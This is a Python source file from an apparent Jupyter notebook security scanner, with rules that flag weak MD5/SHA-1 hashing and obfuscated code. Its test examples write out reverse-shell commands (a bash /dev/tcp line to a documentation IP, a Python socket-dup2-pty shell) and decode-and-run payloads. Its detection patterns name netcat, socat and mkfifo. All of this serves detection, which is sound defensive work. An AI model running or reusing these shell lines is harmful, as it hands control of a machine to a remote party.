"""Code that is not what it looks like, and hashes that prove nothing."""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import TYPE_CHECKING

from jupyter_mlsec.core.calling import argument, calls, flag, keyword, string
from jupyter_mlsec.core.mentions import speaks_of
from jupyter_mlsec.core.model import Confidence, Edit, Fix, Hit, Severity, Span
from jupyter_mlsec.core.patterns import lazy
from jupyter_mlsec.core.rule import Bad, Good, Hint
from jupyter_mlsec.rules.environment.family import IN_COMMANDS, program, rule

if TYPE_CHECKING:
    import ast

    from jupyter_mlsec.core.view import Context, View

_WEAK = frozenset(("md5", "sha1", "md4"))


@rule(
    "weak-hash",
    "A hash that can be forged",
    severity=Severity.LOW,
    hints=(
        Hint("weak-hash", r"\b(?:md[45]|MD5|sha1|SHA1|SHA)\b", ("md5", "md4", "sha")),
        Hint("weak-hash", r"hashlib", ("hashlib",)),
    ),
    languages=("python",),
    references=("CWE-327", "CWE-328"),
    aggregate="{count} kinds of hashes that can be forged: {subjects}",
    examples=(
        Bad(
            "import hashlib\nh = hashlib.md5(data).hexdigest()",
            at="hashlib.md5(data)",
            fixed="import hashlib\nh = hashlib.sha256(data).hexdigest()",
        ),
        Bad("from hashlib import sha1 as s\ns(data)", at="s(data)"),
        Bad(
            'import hashlib\nh = hashlib.new("md5", data)',
            at='hashlib.new("md5", data)',
            fixed='import hashlib\nh = hashlib.new("sha256", data)',
        ),
        Bad(
            "import hashlib as hl\nh = hl.sha1()",
            at="hl.sha1()",
            fixed="import hashlib as hl\nh = hl.sha256()",
        ),
        Good("import hashlib\nhashlib.sha256(data)", because="none can be forged"),
        Good("import hashlib\nhashlib.md5(data, usedforsecurity=False)", because="it says so"),
        Good("df.md5(data)", because="nothing says that it is hashlib's"),
        Good("# hashlib.md5(data)", because="a comment"),
        Good('print("md5")', because="a string"),
    ),
)
def weak_hash(view: View) -> Iterator[Hit]:
    """Two files with the same MD5 or SHA-1 are made in seconds to weeks, so that neither proves
    that a file is the one that was checked, and passwords hashed with them are guessed fast. Use
    SHA-256; for passwords scrypt or Argon2. `usedforsecurity=False` says that it is for neither."""
    names = [f"hashlib.{name}" for name in _WEAK]
    for call in calls(view, *names, "hashlib.new"):
        algorithm = call.name.rpartition(".")[2]
        if algorithm == "new":
            algorithm = (string(view, argument(view, call, "name", 0)) or "").lower()
        if algorithm not in _WEAK or flag(view, keyword(view, call, "usedforsecurity")) is False:
            continue
        written = view.source[call.span.start : call.span.end]
        start = call.span.start + written.find(algorithm)
        edit = Edit(Span(start, start + len(algorithm)), "sha256", view.text.cell)
        fix = Fix((edit,), False, "take SHA-256") if algorithm in written else None
        yield Hit(call.span, f"{algorithm} can be forged; take SHA-256", fix, subject=algorithm)


_DECODERS = lazy(
    r"base64\.\w*decode\w*|(?:\w+\.)*b(?:64|32|16|85)decode|a85decode|zlib\.decompress|gzip\.decompress"
    r"|bz2\.decompress|lzma\.decompress|marshal\.loads|codecs\.decode|bytes\.fromhex|bytearray\.fromhex"
    r"|binascii\.(?:unhexlify|a2b_\w+)|(?:\w+\.)*unhexlify|(?:\w+\.)*Fernet\(\)\.decrypt"
    r"|__import__\(\)\.\w*(?:decode|decompress)\w*"
)
_RUNS = ("exec", "eval", "builtins.exec", "builtins.eval", "compile", "marshal.loads",
         "pickle.loads", "types.FunctionType", "__import__")  # fmt: skip
_HIDDEN_CALL = lazy(r"__import__\(\)\.(?:system|popen|Popen|call|run|check_output|exec\w*)")
_REVERSE = lazy(
    r"/dev/(?:tcp|udp)/[\w.{}$-]+/\d+|\b(?:nc|ncat|netcat)\b[^\n|;]*[ \t]-\w*[ec]\b[^\n"
    r"|;]*(?:sh|bash|cmd)"
    r"|\bmkfifo\b[^\n]*\b(?:nc|ncat|netcat)\b|\bsocat\b[^\n]*\bexec:",
    re.IGNORECASE,
)
_DECODES = (
    *("decode", "decompress", "marshal", "fromhex", "unhexlify", "a2b_", "decrypt", "__import__"),
    *("dup2", "\\x"),
)
_RUNS_DECODED = lazy(r"\b(?:exec|eval)\s*\([^\n]*(?:decode|decompress|fromhex|marshal)")
_SPAWNS = lazy(r"/bin/(?:ba|z|da)?sh\b|\bpty\.spawn|cmd\.exe|powershell")
_LONG = 400  # characters of a literal that nobody reads
_BLOB = lazy(r"[A-Za-z0-9+/=\\x\s]+")


@rule(
    "obfuscated-code",
    "Code is decoded and run, or a shell handed to somebody",
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    hints=(
        Hint(
            "obfuscated",
            r"(?:^|[^.\w])(?:exec|eval|compile)[ \t]*(?:\([^)\n]|\($|,)|marshal|__import__"
            r"|FunctionType|dup2|pickle\.loads",
            ("exec", "eval", "compile", "marshal", "__import__", "functiontype", "dup2", "pickle"),
        ),
        Hint(
            "obfuscated",
            r"/dev/(?:tcp|udp)/|base64[ \t\"',]+(?:-\w*[dD]|--decode)|mkfifo|\b(?:nc|ncat"
            r"|netcat)\b[ \t\"',]|socat|xxd",
            ("/dev/tcp", "/dev/udp", "base64", "mkfifo", "nc", "netcat", "socat", "xxd"),
        ),
    ),
    languages=IN_COMMANDS,
    references=("CWE-506", "AML.T0011"),
    examples=(
        Bad(
            'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))',
            at='exec(base64.b64decode("cHJpbnQoMSk="))',
        ),
        Bad(
            "from base64 import b64decode as d\nimport zlib\ncode = zlib.decompress(d(blob))\n"
            "exec(code)",
            at="exec(code)",
        ),
        Bad("import marshal\nexec(marshal.loads(data))", at="exec(marshal.loads(data))"),
        Bad('__import__("os").system("id")', at='__import__("os").system("id")'),
        Bad(
            "%%bash\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
            at="bash -i >& /dev/tcp/203.0.113.5/4444",
        ),
        Bad(
            "!python -c \"import base64; exec(base64.b64decode('cHJpbnQoMSk='))\"",
            at="python -c \"import base64; exec(base64.b64decode('cHJpbnQoMSk='))\"",
        ),
        Bad("!echo aWQ= | base64 -d | sh", at="echo aWQ= | base64 -d | sh"),
        Bad(
            "import os, socket, pty\ns = socket.socket()\ns.connect((h, p))\n"
            "os.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')",
            at="os.dup2(s.fileno(), 0)",
        ),
        Good("import base64\nimage = base64.b64decode(data)", because="it is shown, not run"),
        Good("exec(open('helpers.py').read())", because="a file that can be read"),
        Good('eval("1 + 2")', because="a short text that can be read"),
        Good("!base64 -d key.b64 > key.bin", because="nothing runs"),
        Good("model.eval()\nimport zlib\nzlib.decompress(d)", because="a mode"),
        Good("import os\nos.dup2(log.fileno(), 1)", because="an output goes to a file"),
        Good("!nc -zv localhost 80", because="it asks whether a port is open"),
        Good("# exec(base64.b64decode(x))", because="a comment"),
    ),
)
def obfuscated_code(view: View) -> Iterator[Hit]:
    """What is decoded before it runs can't be read by whoever reviews the notebook, which is most
    often why it is encoded; a shell that is connected to a socket is somebody else's. Write out
    what runs, or don't run the notebook."""
    if view.text.language == "python":
        yield from _in_code(view)
    commands = view.commands
    reported = 0
    for number, command in enumerate(commands):
        stop = view.source.find("\n", command.span.end)
        line = Span(command.span.start, len(view.source) if stop < 0 else stop)
        reverse = _REVERSE.search(view.source, *line) if line.end > reported else None
        if reverse:
            reported = line.end
            yield Hit(Span(line.start, reverse.end()), _SHELL)
        elif program(command).startswith("python") and any(
            _RUNS_DECODED.search(word.text) for word in command.argv[1:]
        ):
            yield Hit(command.span, _DECODED)
        elif program(command) in ("base64", "xxd") and _decodes([w.text for w in command.argv]):
            after = commands[number + 1 : number + 2]
            if command.operator == "|" and after and program(after[0]) in _INTERPRETERS:
                first = command
                if number and commands[number - 1].operator == "|":
                    first = commands[number - 1]
                yield Hit(Span(first.span.start, after[0].span.end), _DECODED)


_INTERPRETERS = frozenset("sh bash zsh dash python python3 perl ruby node".split())
_DECODED = "this runs what is decoded first, so that nobody reads it; write out what runs"
_SHELL = "this hands a shell on this machine to whoever is at the other end"


def _decodes(words: list[str]) -> bool:
    return any(re.fullmatch(r"-\w*[dDr]\w*|--decode", word) for word in words[1:])


def _in_code(view: View) -> Iterator[Hit]:
    if not view.context.once(_may_decode) and len(view.source) < _LONG:
        return
    from jupyter_mlsec.core.flow.origins import Origins

    origins = Origins(view.context, lambda name: _DECODERS.fullmatch(name) is not None)
    outer = Span(0, 0)
    for call in calls(view, *_RUNS):
        if not call.args or call.span.start < outer.end:
            continue
        runs = call.name != "marshal.loads" or _is_blob(view, call.args[0])
        hides = call.name != "pickle.loads" or _is_blob(view, call.args[0])
        if (
            runs
            and hides
            and (origins.has(call.args[0], view.code) or _is_blob(view, call.args[0]))
        ):
            outer = call.span
            yield Hit(call.span, _DECODED)
    for call in view.code.calls(imports=view.context.imports):
        if _HIDDEN_CALL.fullmatch(call.name):
            yield Hit(call.span, "a command is run by a module that is imported out of sight")
    socket = next(iter(calls(view, "os.dup2")), None)
    if socket is not None and ".connect(" in view.source and _SPAWNS.search(view.source):
        yield Hit(socket.span, _SHELL)


def _may_decode(context: Context) -> bool:
    """Whether the document decodes anything at all."""
    return speaks_of(context, _DECODES)


def _is_blob(view: View, node: ast.expr) -> bool:
    """Whether an expression holds a long literal of bytes or of base64, which nobody reads."""
    import ast

    for inner in ast.walk(node):
        if isinstance(inner, ast.Constant) and isinstance(inner.value, str | bytes):
            text = inner.value
            if len(text) >= _LONG and (isinstance(text, bytes) or _BLOB.fullmatch(text)):
                return True
    return False
